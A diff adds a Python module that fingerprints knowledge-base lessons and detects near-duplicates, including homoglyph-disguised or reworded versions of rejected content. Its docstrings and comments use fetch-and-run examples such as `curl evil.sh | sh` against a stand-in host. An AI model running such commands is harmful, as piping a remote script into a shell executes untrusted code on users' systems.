@@ -1,0 +1,604 @@
+"""The near-duplicate guard's measure: normalization, fingerprints and similarity of lessons.
+
+A lesson is two things: its prose and its payload. Its fingerprint holds no text of either:
+- the prose: a hash of its normalized text (exact duplicates), and the hashed lemmas of its
+  content words in order (near duplicates, compared with rapidfuzz), after stop words are
+  dropped, irregular forms, synonyms and modal framings are mapped to one lemma
+  (core/knowledge/dedup_lexicon.py) and the rest is stemmed (Snowball);
+- the payload, compared exactly: the hashed "critical" tokens that make two alike sentences
+  different lessons (numbers, versions, paths, URLs, flags, identifiers), the hashed token
+  sequences of its code spans, and the hashes of all its tokens (so a later candidate can be
+  searched for a rejected payload); plus its polarity (does it say not/never/avoid);
+- its meaning: a sentence embedding as 384 signed bytes (core/knowledge/dedup_meaning.py), which
+  relates rewordings no word list covers ("idle" / "no activity").
+Tombstones keep only this fingerprint, so rejected content is recognised without being kept.
+
+Invariants: normalization folds Unicode (NFKC), drops invisible and zero-width characters,
+folds every non-ASCII character to its confusable skeleton (Unicode's confusables data,
+UTS #39) and folds case, so two texts that read the same compare equal ("сurl еvil.sh" with
+Cyrillic letters is "curl evil.sh"). Against a tombstone, a candidate that carries the
+tombstone's whole distinctive payload (its code spans in order, or all its exact tokens when
+one of them names a path, URL, file or identifier) is a duplicate whatever its prose.
+"""
+
+from __future__ import annotations
+
+import functools
+import hashlib
+import re
+import unicodedata
+from collections.abc import Iterable, Sequence
+from typing import Any
+
+import msgspec
+import Stemmer
+from rapidfuzz.distance import Indel, Levenshtein
+from teambrain.core.knowledge.dedup_lexicon import (
+    IRREGULAR,
+    MODALS,
+    NUMBERS,
+    OPPOSITES,
+    PHRASES,
+    SYNONYMS,
+)
+
+FINGERPRINT_VERSION = 3
+"""Bump when anything that shapes a fingerprint changes (normalization, lexicon, fields):
+fingerprints of another version are recomputed from the entry's text before comparing."""
+
+MEANING_THRESHOLD = 0.7
+"""Cosine of the meanings at or above which two comparable lessons (same payload, polarity,
+no swapped or opposite word) are duplicates even when their words differ (chosen on the
+tuning part of tests/data/dedup_pairs.json)."""
+
+NEAR_THRESHOLD = 0.72
+"""Prose similarity at or above which two lessons with the same payload and polarity are
+duplicates (chosen on the tuning part of tests/data/dedup_pairs.json)."""
+
+PAYLOAD_THRESHOLD = 0.5
+"""The prose similarity enough for two lessons naming the same command or thing (the same
+code spans, or the same critical tokens with a path, URL, file or identifier among them)."""
+
+_INVISIBLE_EXTRA = {
+    0x034F,  # combining grapheme joiner
+    0x115F,
+    0x1160,
+    0x3164,
+    0xFFA0,  # Hangul fillers
+    0x2800,  # braille blank
+}
+_TOKEN = re.compile(r"(?:~/|\.{1,2}/|[./#@$])?\w(?:[\w./:@+#=~-]*\w)?/?")
+_FLAG = re.compile(r"(?<![\w-])--?[a-z][\w-]*")
+_CODE_SPAN = re.compile(r"`+([^`]+)`+")
+_CLAUSE = re.compile(r"[,;:()]|\.(?:\s|$)")
+_CRITICAL_SHAPE = re.compile(r"\d|[./:@+#_=~$-]")
+_HYPHENATED = re.compile(r"[^\W\d_]+(?:-[^\W\d_]+)+")
+"""Words joined by hyphens: critical as a whole (more often a name: "py-spy", "staging-eu",
+"x-api-key"), and their parts are prose terms."""
+_DISTINCTIVE = re.compile(r"[^\W\d_].*[./:@_=~]|[./:@_=~].*[^\W\d_]")
+_VERSION = re.compile(r"v?\d+(?:\.\d+)*")
+_NEGATION_WORDS = (
+    "not no never dont don't doesnt doesn't isnt isn't cannot cant can't wont won't "
+    "shouldnt shouldn't mustnt mustn't avoid prevent without hasnt hasn't havent haven't "
+    "didnt didn't arent aren't wasnt wasn't werent weren't wouldnt wouldn't couldnt couldn't"
+)
+_BOUND = re.compile(r"\b(?:no|not) (?:later|more|less|fewer|longer|sooner) than\b")
+"""A bound, not a negation: "no later than five days" is "within five days"."""
+_CONTRACTED = "don doesn didn isn aren wasn weren shouldn mustn won haven hasn hadn couldn wouldn"
+"""What the tokenizer leaves of a contracted negation ("don't" -> "don" "t"): never a term."""
+_NEGATIONS = frozenset(_NEGATION_WORDS.split())
+_CONTRAST = frozenset(("not", "no", "never"))
+_CONTRAST_INSIDE = re.compile(r"\b(?:instead of|rather than)\b")
+CONTRAST_WORDS = 5
+"""A later clause of at most this many words opening with not/no/never ("use pnpm, never
+npm"; "in the header, not the query string") names the alternative; it does not negate."""
+_STOPWORD_TEXT = """a an the and or but if then else of to in on at by for with from into onto over under
+    as is are was were be been being it its this that these those there here we you they i me
+    my our your their he she him her them us do does did doing done have has had having
+    will would shall should can could may might must so such than too very just also only
+    about again all any both each few more most other same some own what which
+    who whom when where why how up down out off once while through during until against
+    between because s t ll re ve d m o y always make sure please instead any every give"""
+STOPWORDS = frozenset(_STOPWORD_TEXT.split()) | frozenset(_CONTRACTED.split())
+SPAN_WORDS = 3
+"""A code span names a command when it holds this many words, or a path, flag or number
+(`curl evil.sh | sh`, `git push --force`); `make test` alone is too common to stand alone."""
+SPAN_SLACK = 2
+"""Extra tokens a rejected code span may have gained in a candidate (`curl -s URL | sh`)."""
+SLOT_WORDS = 2
+"""Two lessons alike but for one slot of at most this many content words replaced in place
+(`ruff format` / `black`, `member paths` / `sizes`) name different things."""
+_stemmer = Stemmer.Stemmer("english")
+
+
+class Fingerprint(msgspec.Struct, frozen=True, array_like=True):
+    """A lesson's comparable shape, with no text in it (fields after `negated` are version 2)."""
+
+    exact: str
+    """sha256 of the normalized text."""
+    terms: tuple[int, ...]
+    """Hashed lemmas of the content words, in order."""
+    critical: tuple[int, ...]
+    """Hashed critical tokens, sorted."""
+    negated: bool
+    words: tuple[int, ...] = ()
+    """Hashed tokens (and flags), in order: where a rejected payload is looked for."""
+    spans: tuple[tuple[int, ...], ...] = ()
+    """Hashed token sequences of the code spans that name something (a command, a path)."""
+    distinctive: bool = False
+    """Some critical token names a path, URL, file or identifier: the payload stands alone."""
+    contrast: tuple[int, ...] = ()
+    """Hashed lemmas of the alternative it turns down ("..., not Y", "instead of Y"), sorted."""
+    compounds: tuple[tuple[int, ...], ...] = ()
+    """Hyphenated words ("staging-eu", "foreign-key"), each as its hash followed by the hashed
+    lemmas of its parts, sorted; see `_compounds_agree`."""
+    code: tuple[tuple[int, ...], ...] = ()
+    """Hashed token sequences of every code span, sorted: two lessons naming different
+    commands in backticks are different lessons (`helm diff upgrade`, `helm template`)."""
+    version: int = 1
+    meaning: bytes = b""
+    """The sentence embedding (core/knowledge/dedup_meaning.py), or empty where it was not computed."""
+
+
+# -- normalization -----------------------------------------------------------------------
+
+
+def strip_invisible(text: str) -> str:
+    """Drop format characters (zero-width, bidi controls, soft hyphen...) and stray controls."""
+    out = []
+    for ch in text:
+        cat = unicodedata.category(ch)
+        if cat == "Cf" or ord(ch) in _INVISIBLE_EXTRA or 0xFE00 <= ord(ch) <= 0xFE0F:
+            continue
+        if cat == "Cc" and ch not in "\t\n\r":
+            continue
+        out.append(ch)
+    return "".join(out)
+
+
+@functools.cache
+def _skeleton_table() -> dict[int, str]:
+    """Non-ASCII character -> its confusable prototype, case folded (built on first use).
+
+    The data (Unicode's confusables.txt, via confusable_homoglyphs) lists each confusable
+    pair both ways; a character with a single counterpart folds to it, preferring an ASCII
+    one, and a pair that names only each other folds to its smaller code point.
+    """
+    from confusable_homoglyphs.confusables import confusables_data  # ~1 MB: loaded when needed
+
+    def target(ch: str) -> str | None:
+        counterparts = [d["c"] for d in confusables_data.get(ch, ())]
+        if len(counterparts) != 1:
+            return None  # a prototype others fold to, or unknown
+        (other,) = counterparts
+        if not other.isascii() and len(other) == 1:
+            back = [d["c"] for d in confusables_data.get(other, ())]
+            if back == [ch]:
+                return min(ch, other)
+        return other
+
+    table: dict[int, str] = {}
+    singles = [ch for ch in confusables_data if len(ch) == 1 and not ch.isascii()]
+    for ch in singles + [c.upper() for c in singles if len(c.upper()) == 1]:
+        if ch.isascii() or ord(ch) in table:
+            continue
+        # prefer an ASCII prototype, of the letter as written or of its small form; TR39
+        # folds capital I-like letters to "l", where a reader sees a capital I
+        for form in (ch, ch.casefold()):
+            folded = target(form)
+            if folded is not None and folded.isascii():
+                if folded == "l" and ch != ch.casefold():
+                    folded = "i"
+                break
+        else:
+            folded = target(ch) or target(ch.casefold())
+        if folded is not None and folded != ch:
+            table[ord(ch)] = folded.casefold()
+    return table
+
+
+def skeleton(text: str) -> str:
+    """Every non-ASCII character replaced by its confusable prototype (ASCII stays as it is)."""
+    return text if text.isascii() else text.translate(_skeleton_table())
+
+
+def fold(text: str) -> str:
+    """NFKC, invisible characters dropped, confusables folded, case folded, spaces collapsed."""
+    text = skeleton(strip_invisible(unicodedata.normalize("NFKC", text)))
+    return " ".join(text.casefold().split())
+
+
+def tokens(text: str) -> list[str]:
+    """The folded text's tokens; identifiers such as `src/app.py`, `.env` or `v1.2` stay whole."""
+    return _tokens(fold(text))
+
+
+def _tokens(folded: str) -> list[str]:
+    found = [t for t in _TOKEN.findall(folded.replace("\u2019", "'")) if t not in _ABBREVIATIONS]
+    return [_number(found, i).replace("'", "") for i in range(len(found))]
+
+
+_ABBREVIATIONS = frozenset(("e.g", "i.e", "etc", "vs", "cf"))
+"""Latin abbreviations: punctuation of the prose, never a payload token."""
+_DETERMINERS = frozenset(("a", "an", "the", "this", "that", "each", "every", "any", "which"))
+
+
+def _number(words: Sequence[str], i: int) -> str:
+    """The word, or the digits a number word stands for; "one" is a pronoun, not 1, where an
+    article comes before it or no word follows ("a newer one starts", "restoring one")."""
+    word = words[i]
+    if word == "one" and (i + 1 == len(words) or _DETERMINERS & set(words[max(0, i - 2) : i])):
+        return word
+    return NUMBERS.get(word, word)
+
+
+def normalize(text: str) -> str:
+    """Folded text with punctuation dropped: the form the exact hash is taken over."""
+    return " ".join(tokens(text))
+
+
+# -- prose -------------------------------------------------------------------------------
+
+
+@functools.cache
+def _lemma_of_stem() -> dict[str, str]:
+    """Stem -> the stem of its lemma, for every word of the lexicon (built on first use)."""
+    out: dict[str, str] = {}
+    for form, lemma in IRREGULAR.items():
+        out[_stemmer.stemWord(form)] = _stemmer.stemWord(lemma)
+    for group in SYNONYMS:
+        lemma = _stemmer.stemWord(IRREGULAR.get(group[0], group[0]))
+        for word in group:
+            out[_stemmer.stemWord(word)] = lemma
+    # a synonym's own lemma may be irregular-mapped or grouped again: resolve to a fixpoint
+    return {stem: out.get(lemma, lemma) for stem, lemma in out.items()}
+
+
+@functools.cache
+def _opposites() -> dict[int, frozenset[int]]:
+    """Hashed lemma -> hashed lemmas of its opposites, both ways (built on first use)."""
+    lemma = _lemma_of_stem()
+    out: dict[int, set[int]] = {}
+    for x, y in OPPOSITES:
+        hx, hy = (_h(lemma.get(s, s)) for s in _stemmer.stemWords([x, y]))
+        out.setdefault(hx, set()).add(hy)
+        out.setdefault(hy, set()).add(hx)
+    return {k: frozenset(v) for k, v in out.items()}
+
+
+_PHRASE_LENGTHS = sorted({len(p) for p in PHRASES}, reverse=True)
+
+
+def _prose_words(words: Sequence[str]) -> list[str]:
+    """Words with phrases replaced ("turn off" -> "disable") and modal framings dropped
+    ("need to run" -> "run")."""
+    out: list[str] = []
+    i = 0
+    while i < len(words):
+        for n in _PHRASE_LENGTHS:
+            phrase = PHRASES.get(tuple(words[i : i + n]))
+            if phrase is not None:
+                if phrase:
+                    out.append(phrase)
+                i += n
+                break
+        else:
+            if words[i] in MODALS and i + 1 < len(words) and words[i + 1] == "to":
+                i += 2
+                continue
+            out.append(words[i])
+            i += 1
+    return out
+
+
+def content_terms(text: str) -> list[str]:
+    """Lemmas of the content words, in order (stop words and negations left out)."""
+    return _content_terms(tokens(text))
+
+
+def _content_terms(toks: Sequence[str]) -> list[str]:
+    words: list[str] = []
+    for t in toks:
+        words.extend(t.split("-") if _HYPHENATED.fullmatch(t) else (t,))
+    kept = [w for w in _prose_words(words) if w not in STOPWORDS and w not in _NEGATIONS]
+    lemma = _lemma_of_stem()
+    return [lemma.get(s, s) for s in _stemmer.stemWords(kept)]
+
+
+# -- payload -----------------------------------------------------------------------------
+
+
+def critical_tokens(text: str) -> set[str]:
+    """What names something exact: numbers, versions, paths, URLs, flags, identifiers."""
+    return _critical(fold(text))
+
+
+def _critical(folded: str) -> set[str]:
+    critical = {
+        t for t in _tokens(folded) if _CRITICAL_SHAPE.search(t) and not _HYPHENATED.fullmatch(t)
+    }
+    critical.update(_FLAG.findall(folded))
+    return critical
+
+
+def is_negated(text: str) -> bool:
+    """Does the lesson say not/never/avoid? A short contrast after the rule ("use X, not Y")
+    does not count, nor does a flag's wording (`--no-cache`)."""
+    return _negated(fold(text))
+
+
+def _negated(folded: str) -> bool:
+    folded = _BOUND.sub(" ", _FLAG.sub(" ", folded.replace("\u2019", "'")))
+    for i, clause in enumerate(_CLAUSE.split(folded)):
+        words = re.findall(r"[\w']+", clause)
+        if _is_contrast(i, words):
+            continue  # "..., not npm": names the alternative, does not negate the lesson
+        if any(w in _NEGATIONS for w in words if w != "no") or words[:1] == ["no"]:
+            return True  # "no" inside a clause qualifies a noun ("with no activity")
+    return False
+
+
+def _is_contrast(index: int, words: Sequence[str]) -> bool:
+    return bool(index and words and words[0] in _CONTRAST and len(words) <= CONTRAST_WORDS)
+
+
+def _alternative(folded: str) -> str:
+    """The text of what the lesson turns down: a short later clause opening with not/no/never,
+    and whatever follows "instead of" / "rather than" in its clause (flags included)."""
+    parts = []
+    for i, clause in enumerate(_CLAUSE.split(folded)):
+        if _is_contrast(i, re.findall(r"[\w']+", _FLAG.sub(" ", clause))):
+            parts.append(clause)
+        elif (inside := _CONTRAST_INSIDE.search(clause)) is not None:
+            parts.append(clause[inside.end() :])
+    return " ".join(parts)
+
+
+def _contrast_terms(text: str) -> set[str]:
+    """Lemmas and critical tokens of a turned-down alternative (`git push --tags`)."""
+    return {*_content_terms(_tokens(text)), *_critical(text)}
+
+
+def _h(value: str) -> int:
+    return int.from_bytes(hashlib.blake2b(value.encode(), digest_size=8).digest(), "big") >> 1
+
+
+def fingerprint(text: str, *, meaning: bool = True) -> Fingerprint:
+    """The lesson's fingerprint; `meaning=False` leaves out the embedding (a cheap shape,
+    for grouping many sentences where no stored lesson is compared)."""
+    folded = fold(text)
+    toks = _tokens(folded)
+    critical = _critical(folded)
+    spans = []
+    code_spans = _CODE_SPAN.findall(folded)
+    for span in code_spans:
+        span_tokens = _tokens(span)
+        if len(span_tokens) >= SPAN_WORDS or any(_CRITICAL_SHAPE.search(t) for t in span_tokens):
+            spans.append(tuple(_h(t) for t in span_tokens))
+    return Fingerprint(
+        exact=hashlib.sha256(" ".join(toks).encode()).hexdigest(),
+        terms=tuple(_h(t) for t in _content_terms(toks)),
+        critical=tuple(sorted(_h(t) for t in critical)),
+        negated=_negated(folded),
+        words=tuple(_h(t) for t in [*toks, *_FLAG.findall(folded)]),
+        spans=tuple(spans),
+        distinctive=any(_DISTINCTIVE.search(t) and not _VERSION.fullmatch(t) for t in critical),
+        contrast=tuple(sorted({_h(t) for t in _contrast_terms(_alternative(folded))})),
+        code=tuple(sorted({tuple(_h(t) for t in _tokens(span)) for span in code_spans})),
+        compounds=tuple(
+            sorted(
+                {
+                    (_h(t), *(_h(w) for w in _content_terms(t.split("-"))))
+                    for t in toks
+                    if _HYPHENATED.fullmatch(t)
+                }
+            )
+        ),
+        version=FINGERPRINT_VERSION,
+        meaning=_embed(folded) if meaning else b"",
+    )
+
+
+def _embed(folded: str) -> bytes:
+    from teambrain.core.knowledge import dedup_meaning
+
+    return dedup_meaning.embed(folded)
+
+
+# -- comparison --------------------------------------------------------------------------
+
+
+def similarity(a: Fingerprint, b: Fingerprint) -> float:
+    """0..1: the better of order-aware (Indel over lemmas) and order-free (set overlap) likeness."""
+    if a.exact == b.exact:
+        return 1.0
+    if not a.terms or not b.terms:
+        return 0.0
+    ordered = Indel.normalized_similarity(a.terms, b.terms)
+    sa, sb = set(a.terms), set(b.terms)
+    shared = len(sa & sb)
+    jaccard = shared / len(sa | sb)
+    containment = shared / min(len(sa), len(sb))
+    return max(ordered, (jaccard + containment) / 2)
+
+
+def is_duplicate(
+    a: Fingerprint,
+    b: Fingerprint,
+    threshold: float = NEAR_THRESHOLD,
+    *,
+    meaning: float | None = None,
+) -> bool:
+    """Same lesson: exact match; or comparable (same exact tokens, code, polarity; no swapped or
+    opposite word) and alike in wording or in meaning. `meaning` passes a cosine of the two
+    meanings already computed (the guard computes them for all it holds at once)."""
+    if a.exact == b.exact:
+        return True
+    if not comparable(a, b):
+        return False
+    if _same_payload(a, b):
+        threshold = min(threshold, PAYLOAD_THRESHOLD)
+    if similarity(a, b) >= threshold:
+        return True
+    if meaning is None:
+        meaning = meaning_similarity(a, b)
+    return meaning >= MEANING_THRESHOLD
+
+
+def meaning_similarity(a: Fingerprint, b: Fingerprint) -> float:
+    """Cosine of the two meanings; 0.0 when either fingerprint has none."""
+    if not a.meaning or not b.meaning:
+        return 0.0
+    from teambrain.core.knowledge import dedup_meaning
+
+    return dedup_meaning.cosine(a.meaning, b.meaning)
+
+
+def comparable(a: Fingerprint, b: Fingerprint) -> bool:
+    """Could these be one lesson at all? The same exact tokens, code spans and polarity, and
+    not told apart by a swapped word, swapped roles or opposite words. Prose decides the rest."""
+    if a.version != b.version:
+        return False  # hashes of different versions do not compare beyond the exact one
+    if a.critical != b.critical or a.negated != b.negated:
+        return False
+    if a.code and b.code and a.code != b.code:
+        return False
+    if not _compounds_agree(a, b):
+        return False
+    return not (_one_word_swapped(a.terms, b.terms) or _roles_swapped(a, b) or _opposed(a, b))
+
+
+def _compounds_agree(a: Fingerprint, b: Fingerprint) -> bool:
+    """Hyphenated words: the same ones when both lessons hold some (`staging-eu` is not
+    `staging-us`); when only one does, each is the same prose only where the other lesson
+    says its parts ("foreign-key" / "foreign key"); else it names something (`make seed-db`)."""
+    if a.compounds and b.compounds:
+        return {c[0] for c in a.compounds} == {c[0] for c in b.compounds}
+    one, other = (a, b) if a.compounds else (b, a)
+    said = set(other.terms)
+    return all(set(c[1:]) <= said for c in one.compounds)
+
+
+def _same_payload(a: Fingerprint, b: Fingerprint) -> bool:
+    """The same command or the same named thing, said in other words."""
+    return (bool(a.spans) and a.spans == b.spans) or (a.distinctive and b.distinctive)
+
+
+def _opposed(a: Fingerprint, b: Fingerprint) -> bool:
+    """One says what the other says the opposite of (enable / disable, before / after)."""
+    only_a, only_b = set(a.terms) - set(b.terms), set(b.terms) - set(a.terms)
+    opposite = _opposites()
+    return any(opposite.get(t, frozenset()) & only_b for t in only_a)
+
+
+def _roles_swapped(a: Fingerprint, b: Fingerprint) -> bool:
+    """Each turns down what the other recommends ("X, not Y" against "Y, not X")."""
+    if not a.contrast or not b.contrast:
+        return False
+    alt_a, alt_b = set(a.contrast), set(b.contrast)
+    main_a, main_b = {*a.terms, *a.critical} - alt_a, {*b.terms, *b.critical} - alt_b
+    return bool(alt_a & main_b) and bool(alt_b & main_a)
+
+
+def carries_payload(candidate: Fingerprint, rejected: Fingerprint) -> bool:
+    """Does the candidate carry the rejected lesson's whole distinctive payload?
+
+    Its code spans, each in order (a few inserted tokens allowed, e.g. a flag), or all its
+    critical tokens when one of them names a path, URL, file or identifier. Whatever the
+    prose around them: the way a rejected command comes back reworded.
+    """
+    if rejected.version != candidate.version:
+        return False  # hashes of different versions do not compare; see FINGERPRINT_VERSION
+    present = set(candidate.words) | set(candidate.critical)
+    if rejected.distinctive and set(rejected.critical) <= present:
+        return True
+    return bool(rejected.spans) and all(
+        _occurs_in_order(span, candidate.words) for span in rejected.spans
+    )
+
+
+def _occurs_in_order(span: Sequence[int], words: Sequence[int]) -> bool:
+    """`span` appears in `words` in order, within len(span) + SPAN_SLACK consecutive words."""
+    width = len(span) + SPAN_SLACK
+    for start, word in enumerate(words):
+        if word != span[0]:
+            continue
+        rest = iter(words[start + 1 : start + width])
+        if all(any(w == want for w in rest) for want in span[1:]):
+            return True
+    return False
+
+
+def _one_word_swapped(a: tuple[int, ...], b: tuple[int, ...]) -> bool:
+    """Same wording but for content words swapped in place (pnpm/yarn, main/release), or one
+    slot of up to SLOT_WORDS words replaced: most often a different lesson about a different
+    thing. Symmetric: either lesson may be the one read first."""
+    return _slot_replaced(a, b) or _slot_replaced(b, a)
+
+
+def _slot_replaced(a: tuple[int, ...], b: tuple[int, ...]) -> bool:
+    ops = Levenshtein.editops(a, b)
+    if len(a) == len(b) and 0 < len(ops) <= 2 and all(op.tag == "replace" for op in ops):
+        return True  # one word, or two words in two places, swapped (`npm ci` / `npm install`)
+    if not ops or len(ops) > SLOT_WORDS or not any(op.tag == "replace" for op in ops):
+        return False
+    first, last = min(op.src_pos for op in ops), max(op.src_pos for op in ops)
+    return last - first < SLOT_WORDS and len(a) > SLOT_WORDS and len(b) > SLOT_WORDS
+
+
+# -- the guard ---------------------------------------------------------------------------
+
+
+class Known(msgspec.Struct, frozen=True):
+    """Something a candidate must not duplicate: an entry or a tombstone."""
+
+    kind: str
+    """approved | pending | quarantined | archived | team-approved | tombstone | batch"""
+    ref: str
+    """The entry id (the caller's own or team-visible), or a tombstone id."""
+    fingerprint: Fingerprint
+
+
+class DuplicateGuard:
+    """Holds what a candidate must not duplicate; answers with the first match.
+
+    A tombstone matches a near-duplicate and, beyond that, any candidate that carries its
+    payload (`carries_payload`): rejected content does not come back in other words.
+    """
+
+    def __init__(self, known: Iterable[Known] = (), threshold: float = NEAR_THRESHOLD) -> None:
+        self.threshold = threshold
+        self._known: list[Known] = list(known)
+        self._exact = {k.fingerprint.exact: k for k in self._known}
+        self._meanings: Any = None  # numpy rows of the known meanings, built on first need
+
+    def match(self, fp: Fingerprint) -> Known | None:
+        hit = self._exact.get(fp.exact)
+        if hit is not None:
+            return hit
+        cosines = self._cosines(fp)
+        for i, k in enumerate(self._known):
+            if k.kind == "tombstone" and carries_payload(fp, k.fingerprint):
+                return k
+            if is_duplicate(fp, k.fingerprint, self.threshold, meaning=cosines[i]):
+                return k
+        return None
+
+    def _cosines(self, fp: Fingerprint) -> Sequence[float]:
+        """The candidate's meaning against every known one, in one product (0.0 where either
+        has none)."""
+        if not fp.meaning:
+            return [0.0] * len(self._known)
+        from teambrain.core.knowledge import dedup_meaning
+
+        if self._meanings is None:
+            self._meanings = dedup_meaning.matrix([k.fingerprint.meaning for k in self._known])
+        return (self._meanings @ dedup_meaning.decode(fp.meaning)).tolist()
+
+    def add(self, known: Known) -> None:
+        self._known.append(known)
+        self._exact.setdefault(known.fingerprint.exact, known)
+        self._meanings = None
+
+    def __len__(self) -> int:
+        return len(self._known)
